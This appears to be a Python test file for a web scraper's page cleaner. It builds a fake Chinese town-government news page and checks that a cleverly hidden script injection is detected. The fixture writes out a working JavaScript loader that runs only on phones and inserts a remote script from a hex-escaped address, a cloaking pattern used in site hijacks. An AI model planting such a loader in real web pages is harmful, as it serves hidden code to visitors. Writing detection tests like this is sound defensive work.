"""A script that loads code for some visitors only (phones, or people and not crawlers) from an
address the page never spells — kept as \\x escapes or character codes — is an injection: a vendor
SDK that loads for phones only names its host in its snippet (v42 sv42-017: a hex-escaped .xyz
loader appended for phones; the same act on rc2-020, rc3-010, rc37b-005 and syn2-003/-026/-036).
A phone-only load whose host the snippet spells plainly, and a hidden address every visitor gets,
stay with the readers that already judge them."""
from __future__ import annotations

from scraper.clean import clean_page

URL = "http://www.qiaotou-town.gov.cn/xwdt/20241127/3086.html"

BODY = ("<p>11月26日,乔头镇召开乡村振兴专题协商会,围绕特色农业园区建设、人居环境整治等议题开展协商。</p>"
        "<p>会上,与会委员结合调研情况,就推进农业产业融合、完善基础设施建设提出意见建议十余条。</p>"
        "<p>镇党委书记在讲话中要求,要认真梳理吸纳委员意见,推动协商成果转化为工作实效。</p>")


def _page(tail: str) -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>乔头镇召开乡村振兴专题协商会_乔头镇人民政府</title>'
            '</head><body><header><a href="/">乔头镇人民政府</a><nav><a href="/">首页</a>'
            '<a href="/xwdt/">新闻动态</a></nav></header>'
            '<article><h1>乔头镇召开乡村振兴专题协商会</h1><div class="info">发布时间：2024-11-27 来源：乔头镇</div>'
            f'<div id="zoom">{BODY}</div></article>'
            f'<footer><p>主办：乔头镇人民政府</p></footer><script>{tail}</script></body></html>').encode()


def _hex(s: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in s)


def _phone_loader(address: str) -> str:
    return (f'var _u="{address}";if(/android|iphone|ipad|mobile/i.test(navigator.userAgent))'
            '{var e=document.createElement("script");e.src=_u;document.getElementsByTagName("head")[0].appendChild(e);}')


def test_a_hidden_address_loaded_for_phones_only_is_spam():
    a = clean_page(_page(_phone_loader(_hex("https://qm-7713.com/m/31.js"))), url=URL)
    assert a.hijacked and "spam_script" in {f.kind for f in a.findings}
    assert any("qm-7713.com" in f.evidence for f in a.findings)
    assert "乡村振兴" in a.text


def test_a_phone_only_sdk_spelling_its_host_stays_clean():
    a = clean_page(_page(_phone_loader("https://sdk.mobile-widgets-cdn.com/m/31.js")), url=URL)
    assert not a.hijacked, a.findings
